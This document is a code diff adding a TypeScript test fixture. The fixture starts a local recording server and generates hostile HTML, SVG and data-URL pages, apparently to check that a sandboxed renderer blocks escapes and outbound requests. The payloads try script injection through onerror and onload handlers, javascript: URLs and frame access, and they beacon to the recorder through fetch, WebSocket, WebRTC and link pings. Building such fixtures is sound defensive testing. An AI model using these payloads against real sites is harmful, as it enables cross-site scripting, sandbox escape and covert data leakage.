@@ -1,0 +1,115 @@
+import { createSocket } from 'node:dgram';
+import { once } from 'node:events';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+
+/** Somebody else's host: writes down whoever comes, over TCP or UDP. */
+export interface Outsider {
+  readonly address: string;
+  readonly stun: string;
+  /** What was asked for so far. */
+  readonly met: readonly string[];
+  close(): Promise<void>;
+}
+
+export async function startOutsider(): Promise<Outsider> {
+  const met: string[] = [];
+  const server = createServer((request, response) => {
+    met.push(request.url ?? '');
+    response.setHeader('access-control-allow-origin', '*').end('met');
+  });
+  server.on('upgrade', (request, socket) => {
+    met.push(request.url ?? '');
+    socket.destroy();
+  });
+  const udp = createSocket('udp4').on('message', () => met.push('/stun'));
+  server.listen(0, '127.0.0.1');
+  udp.bind(0);
+  await Promise.all([once(server, 'listening'), once(udp, 'listening')]);
+  const { port } = server.address() as AddressInfo; // It listens on TCP.
+  return {
+    address: `http://127.0.0.1:${port}`,
+    stun: `stun:127.0.0.1:${udp.address().port}`,
+    met,
+    close: async () => {
+      udp.close();
+      server.closeAllConnections();
+      await new Promise((closed) => server.close(closed));
+    },
+  };
+}
+
+/** Sets this in a page it may not touch. */
+export const MARK = '__escaped';
+
+/** What a script tries once it runs; `#ran` says that all of it was tried. */
+function attempts({ address, stun }: Outsider): string {
+  return `
+    const attempt = (act) => { try { act(); } catch {} };
+    for (const other of [top, parent, opener]) attempt(() => { other.${MARK} = 1; });
+    attempt(() => parent.document.body.append('${MARK}'));
+    attempt(() => { top.document.title = '${MARK}'; });
+    attempt(() => parent.eval('window.${MARK} = 1'));
+    attempt(() => { top.location = '${address}/top'; });
+    attempt(() => { parent.location.hash = '${MARK}'; });
+    attempt(() => window.open('${address}/open'));
+    attempt(() => window.open('javascript:opener.top.${MARK}=1'));
+    attempt(() => parent.postMessage({ kind: 'show', html: '<img src=x onerror="${MARK}=1">' }, '*'));
+    attempt(() => fetch('${address}/fetch', { mode: 'no-cors' }).catch(() => {}));
+    attempt(() => { const asked = new XMLHttpRequest(); asked.open('GET', '${address}/xhr'); asked.send(); });
+    attempt(() => navigator.sendBeacon('${address}/beacon', 'x'));
+    attempt(() => new EventSource('${address}/events'));
+    attempt(() => new WebSocket('${address.replace('http', 'ws')}/socket'));
+    attempt(() => import('${address}/import.js').catch(() => {}));
+    attempt(() => { new Image().src = '${address}/image'; });
+    attempt(() => new Worker(URL.createObjectURL(new Blob(['fetch("${address}/worker"); importScripts("${address}/imported")']))));
+    attempt(() => {
+      const call = new RTCPeerConnection({ iceServers: [{ urls: '${stun}' }] });
+      call.createDataChannel('x');
+      call.createOffer().then((offer) => call.setLocalDescription(offer));
+    });
+    attempt(() => {
+      const inner = document.createElementNS('http://www.w3.org/1999/xhtml', 'iframe');
+      inner.srcdoc = '<img src="${address}/inner"><script>fetch("${address}/inner-fetch"); top.${MARK} = 1<' + '/script>';
+      document.documentElement.append(inner);
+    });
+    attempt(() => {
+      const link = document.createElementNS('http://www.w3.org/1999/xhtml', 'a');
+      for (const target of ['_top', '_parent', '_blank']) {
+        for (const href of ['javascript:top.${MARK}=1', '${address}/link']) {
+          Object.assign(link, { href, target, ping: '${address}/ping' });
+          link.click();
+        }
+      }
+    });
+    document.getElementById('ran').textContent = 'ran';`;
+}
+
+export function hostileHtml(outsider: Outsider): string {
+  const { address } = outsider;
+  return `
+    <meta http-equiv="refresh" content="0;url=${address}/refresh"><base href="${address}/base/" target="_top">
+    <link rel="stylesheet" href="${address}/sheet"><link rel="prefetch" href="${address}/prefetch">
+    <link rel="preload" as="image" href="${address}/preload"><link rel="manifest" href="${address}/manifest">
+    <style>@import url(${address}/import.css); body { background: url(${address}/background) }</style>
+    <img src=x onerror="top.${MARK} = 1"><img src="${address}/img"><iframe src="${address}/frame"></iframe>
+    <object data="${address}/object"></object><embed src="${address}/embed"><video poster="${address}/poster" src="${address}/video"></video>
+    <form id="form" action="${address}/form" target="_top"><input name="a"></form><p id="ran">not run</p>
+    <script src="${address}/script.js"></script>
+    <script>document.getElementById('form').submit();</script><script>${attempts(outsider)}</script>`;
+}
+
+export function hostileSvg(outsider: Outsider): string {
+  const { address } = outsider;
+  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="top.${MARK} = 1">
+    <image href="${address}/svg-image"/><use href="${address}/svg-use#a"/>
+    <foreignObject><img src="${address}/foreign" onerror="top.${MARK} = 1"/></foreignObject>
+    <animate onbegin="top.${MARK} = 1" attributeName="x" dur="1s"/><text id="ran">not run</text>
+    <script xlink:href="${address}/svg-script"/><script><![CDATA[${attempts(outsider)}]]></script></svg>`;
+}
+
+/** Leaves its document for one that no policy of a server was sent with. */
+export function hostileMove(outsider: Outsider): string {
+  const inner = `<p id="ran">not run</p><script>${attempts(outsider)}</script>`;
+  return `<script>location.href = 'data:text/html,' + ${JSON.stringify(encodeURIComponent(inner))};</script>`;
+}
